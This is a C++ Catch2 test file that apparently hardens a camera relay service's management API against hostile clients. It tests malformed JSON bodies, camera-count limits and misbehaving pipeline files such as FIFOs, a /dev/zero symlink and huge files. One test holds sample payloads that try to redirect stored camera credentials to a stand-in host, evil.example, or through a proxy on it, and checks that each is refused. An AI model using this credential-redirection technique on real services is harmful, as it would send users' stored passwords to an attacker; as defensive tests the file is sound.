// The camera-management surface attacked as a hostile client would: stored
// credentials steered to another host or a proxy, bodies json-glib would
// silently reshape (duplicate members, NUL), thousands of cameras, and a
// pipelines directory that misbehaves (files rewritten without pause, the
// directory removed, FIFOs, devices, huge and invalid files). Real binary.
#include "core/files.h"
#include "http_client.h"
#include "json_query.h"
#include "service_process.h"

#include <catch2/catch.hpp>
#include <glib.h>
#include <glib/gstdio.h>

#include <csignal>
#include <cstdio>
#include <fstream>
#include <sys/stat.h>
#include <thread>
#include <unistd.h>

using namespace camrelay;
using namespace camrelay::testing;

namespace {

HttpResponse send(int port, const std::string& method, const std::string& target, const std::string& body) {
    return httpRequest(port, method, target, body,
                       "Content-Type: application/json\r\nContent-Length: " + std::to_string(body.size()) + "\r\n");
}

std::string fileText(const std::string& path) {
    std::string error;
    auto text = readFile(path, &error);
    return text ? *text : std::string();
}

void writeText(const std::string& path, const std::string& text) {
    std::ofstream out(path, std::ios::binary | std::ios::trunc);
    out << text;
}

bool exists(const std::string& path) { return g_file_test(path.c_str(), G_FILE_TEST_EXISTS); }

int status(int port, const std::string& target) { return httpRequest(port, "GET", target).status; }

const std::string kIdle = "[camera]\nsource=videotestsrc is-live=true\nenabled=false\n";

// /health answers within 1 s.
bool healthy(int port) {
    const int64_t start = g_get_monotonic_time();
    const bool ok = status(port, "/health") == 200;
    return ok && g_get_monotonic_time() - start < 1000000;
}

}  // namespace

TEST_CASE("a stored credential behind *** is never sent to another host or through the editor's proxy",
          "[hostile][camera-api]") {
    const std::string stored =
        "[camera]\nname=Sec\nsource=rtspsrc location=rtsp://admin:s3cretPW@127.0.0.1:1/live user-id=bob user-pw=hunter2 ! "
        "decodebin\nenabled=false\n";
    ServiceProcess service({{"sec.conf", stored}, {"http.conf", "[camera]\nsource=souphttpsrc "
                                                                 "location=http://admin:s3cretPW@127.0.0.1:1/x ! jpegdec\nenabled=false\n"}});
    const int port = service.port();
    const std::string path = service.pipelinesDir() + "/sec.conf";

    // user-pw=*** moved to an element that talks to another host.
    auto r = send(port, "PATCH", "/api/cameras/sec",
                  R"({"source":"souphttpsrc location=http://evil.example/x user-id=*** user-pw=*** ! jpegdec"})");
    INFO(r.body);
    CHECK(r.status == 400);
    CHECK(jsonString(r.body, "$.error") == "bad_config");
    CHECK_THAT(jsonString(r.body, "$.message"), Catch::Contains("http://evil.example"));
    // The same host, another path: allowed, but not with a different one beside it.
    r = send(port, "PATCH", "/api/cameras/sec",
             R"({"source":"rtspsrc location=rtsp://127.0.0.1:1/live user-id=*** user-pw=*** ! decodebin ! fakesink souphttpsrc location=http://evil.example/ ! fakesink"})");
    CHECK(r.status == 400);
    // rtspsrc / souphttpsrc proxy= named by the editor.
    r = send(port, "PATCH", "/api/cameras/sec",
             R"({"source":"rtspsrc location=rtsp://***@127.0.0.1:1/live user-id=*** user-pw=*** proxy=evil.example:3128 ! decodebin"})");
    CHECK(r.status == 400);
    r = send(port, "PATCH", "/api/cameras/http",
             R"({"source":"souphttpsrc location=http://***@127.0.0.1:1/x proxy=http://evil.example:3128 ! jpegdec"})");
    CHECK(r.status == 400);
    CHECK(fileText(path) == stored);
    CHECK_THAT(fileText(service.pipelinesDir() + "/http.conf"), !Catch::Contains("proxy"));

    // What *** is for still works: the path and latency change, the password stays.
    r = send(port, "PATCH", "/api/cameras/sec",
             R"({"source":"rtspsrc location=rtsp://***@127.0.0.1:1/other latency=50 user-id=*** user-pw=*** ! decodebin"})");
    INFO(r.body);
    CHECK(r.status == 200);
    CHECK_THAT(fileText(path), Catch::Contains("rtsp://admin:s3cretPW@127.0.0.1:1/other latency=50 user-id=bob user-pw=hunter2"));
    CHECK_THAT(r.body, !Catch::Contains("s3cretPW"));
    CHECK_THAT(r.body, !Catch::Contains("hunter2"));
}

TEST_CASE("bodies json-glib would reshape are refused: duplicate members, NUL in a string", "[hostile][camera-api]") {
    ServiceProcess service({{"demo.conf", kIdle}});
    const int port = service.port();
    const std::string dir = service.pipelinesDir();
    struct Case {
        const char* body;
        const char* file;
    } cases[] = {
        {R"({"id":"one","id":"two","source":"videotestsrc","enabled":false})", "two.conf"},
        {R"({"id":"dup","source":"videotestsrc","enabled":false,"enabled":true})", "dup.conf"},
        {R"({"id":"rec","source":"videotestsrc","enabled":false,"record":{"mode":"off","mode":"always"}})", "rec.conf"},
        {R"({"id":"nul","source":"videotestsrc","enabled":false,"name":"a\u0000b"})", "nul.conf"},
        {R"({"id":"nul2","source":"videotestsrc\u0000 ! fakesink","enabled":false})", "nul2.conf"},
        {R"({"id\u0000x":"nulkey","source":"videotestsrc","enabled":false})", "nulkey.conf"},
    };
    for (const Case& c : cases) {
        auto r = send(port, "POST", "/api/cameras", c.body);
        INFO(c.body << " -> " << r.status << " " << r.body);
        CHECK(r.status == 400);
        CHECK(jsonString(r.body, "$.error") == "bad_json");
        CHECK_FALSE(exists(dir + "/" + c.file));
    }
    CHECK_FALSE(exists(dir + "/one.conf"));
    // Escapes that are not NUL, and a backslash before "u0000", are fine.
    auto r = send(port, "POST", "/api/cameras", R"({"id":"ok","name":"a\\u0000 \u00e9","source":"videotestsrc","enabled":false})");
    INFO(r.body);
    CHECK(r.status == 201);
    CHECK(jsonString(r.body, "$.name") == "a\\u0000 \xC3\xA9");
    r = send(port, "PATCH", "/api/cameras/demo", R"({"name":"x","name":"y"})");
    CHECK(r.status == 400);
    CHECK(fileText(dir + "/demo.conf") == kIdle);
}

TEST_CASE("the number of cameras is bounded: the API answers 409 too_many_cameras, new files are left out",
          "[hostile][camera-api]") {
    TempDir config;
    const std::string ini = config.write("camrelay.ini", "[limits]\nmax-cameras=3\n[paths]\ndata=" + config.path() + "/data\n");
    ServiceProcess service({{"a.conf", kIdle}}, {"--config", ini});
    const int port = service.port();
    const std::string dir = service.pipelinesDir();
    CHECK(send(port, "POST", "/api/cameras", R"({"id":"b","source":"videotestsrc","enabled":false})").status == 201);
    CHECK(send(port, "POST", "/api/cameras", R"({"id":"c","source":"videotestsrc","enabled":false})").status == 201);
    auto r = send(port, "POST", "/api/cameras", R"({"id":"d","source":"videotestsrc","enabled":false})");
    INFO(r.body);
    CHECK(r.status == 409);
    CHECK(jsonString(r.body, "$.error") == "too_many_cameras");
    CHECK_THAT(jsonString(r.body, "$.message"), Catch::Contains("max-cameras is 3"));
    CHECK_FALSE(exists(dir + "/d.conf"));

}

// main.cpp builds the watcher with the default bound (kDefaultMaxCameras, 64);
// [limits] max-cameras reaches the API only until main passes it on.
TEST_CASE("hot reload: files dropped in beyond the camera limit are left out, taken in when there is room",
          "[hostile][camera-api]") {
    ServiceProcess service({{"a.conf", kIdle}});
    const int port = service.port();
    const std::string dir = service.pipelinesDir();
    constexpr int kFiles = 80;
    for (int i = 0; i < kFiles; ++i) writeText(dir + "/f" + std::to_string(100 + i) + ".conf", kIdle);
    auto count = [&] {
        int in = 0;
        for (int i = 0; i < kFiles; ++i) in += status(port, "/api/cameras/f" + std::to_string(100 + i)) == 200;
        return in;
    };
    const int64_t until = g_get_monotonic_time() + 5000000;
    while (g_get_monotonic_time() < until && count() < 63) usleep(200 * 1000);
    usleep(500 * 1000);
    CHECK(healthy(port));
    CHECK(count() == 63);  // 64 with a
    CHECK_THAT(service.log(), Catch::Contains("f179.conf left out"));
    auto r = send(port, "POST", "/api/cameras", R"({"id":"z","source":"videotestsrc","enabled":false})");
    CHECK(r.status == 409);
    ::kill(service.pid(), SIGHUP);
    usleep(300 * 1000);
    CHECK(count() == 63);
    // Room again: the next re-read takes one in.
    CHECK(httpRequest(port, "DELETE", "/api/cameras/a").status == 204);
    ::kill(service.pid(), SIGHUP);
    usleep(500 * 1000);
    CHECK(count() == 64);
    CHECK(healthy(port));
}

TEST_CASE("hot reload: a file rewritten without pause does not hold back other changes", "[hostile][camera-api]") {
    ServiceProcess service({{"demo.conf", kIdle}});
    const int port = service.port();
    const std::string dir = service.pipelinesDir();
    const int64_t start = g_get_monotonic_time();
    bool seen = false;
    int64_t seenAfterUs = 0;
    for (int i = 0; g_get_monotonic_time() - start < 4000000 && !seen; ++i) {
        writeText(dir + "/busy.conf", "[camera]\nname=Busy" + std::to_string(i) + "\nsource=videotestsrc\nenabled=false\n");
        if (i == 10) writeText(dir + "/other.conf", kIdle);
        usleep(5000);
        if (i > 10 && i % 20 == 0 && status(port, "/api/cameras/other") == 200) {
            seen = true;
            seenAfterUs = g_get_monotonic_time() - start;
        }
    }
    INFO(service.log());
    CHECK(seen);
    CHECK(seenAfterUs < 2500000);
    CHECK(healthy(port));
}

TEST_CASE("hot reload: odd files and a removed directory neither hang nor crash nor drop cameras", "[hostile][camera-api]") {
    ServiceProcess service({{"demo.conf", kIdle}, {"keep.conf", kIdle}});
    const int port = service.port();
    const std::string dir = service.pipelinesDir();
    const int fdsBefore = openFdCount(service.pid());

    REQUIRE(::mkfifo((dir + "/fifo.conf").c_str(), 0600) == 0);
    REQUIRE(::symlink("/dev/zero", (dir + "/zero.conf").c_str()) == 0);
    REQUIRE(g_mkdir((dir + "/x.conf").c_str(), 0700) == 0);
    writeText(dir + "/huge.conf", "[camera]\nsource=videotestsrc\n#" + std::string(2 * 1024 * 1024, 'x') + "\n");
    writeText(dir + "/utf.conf", "[camera]\nname=\xff\xfe\xc3\nsource=videotestsrc\nenabled=false\n");
    usleep(1000 * 1000);
    for (int i = 0; i < 30; ++i) ::kill(service.pid(), SIGHUP);  // a storm of re-reads
    usleep(500 * 1000);
    REQUIRE(healthy(port));
    for (const char* id : {"fifo", "zero", "x", "huge"}) {
        const std::string json = service.cameraJson(id);
        INFO(id << ": " << json);
        CHECK(jsonString(json, "$.state") == "failed");
    }
    const std::string cameras = httpRequest(port, "GET", "/api/cameras").body;
    CHECK(isJsonObject("{\"a\":" + cameras + "}"));  // valid JSON (and so UTF-8) with the odd names in it

    // The directory goes away: the cameras stay (not "every file deleted").
    REQUIRE(std::rename(dir.c_str(), (dir + ".away").c_str()) == 0);
    usleep(1000 * 1000);
    ::kill(service.pid(), SIGHUP);
    usleep(300 * 1000);
    CHECK(status(port, "/api/cameras/keep") == 200);
    CHECK_THAT(service.log(), Catch::Contains("every camera is kept as it is"));
    // It comes back without keep.conf: now keep is gone, and a new file is taken in.
    REQUIRE(std::rename((dir + ".away").c_str(), dir.c_str()) == 0);
    REQUIRE(g_unlink((dir + "/keep.conf").c_str()) == 0);
    writeText(dir + "/late.conf", kIdle);
    ::kill(service.pid(), SIGHUP);
    usleep(500 * 1000);
    CHECK(status(port, "/api/cameras/keep") == 404);
    CHECK(status(port, "/api/cameras/late") == 200);
    CHECK(healthy(port));
    CHECK(openFdCount(service.pid()) <= fdsBefore + 2);
}
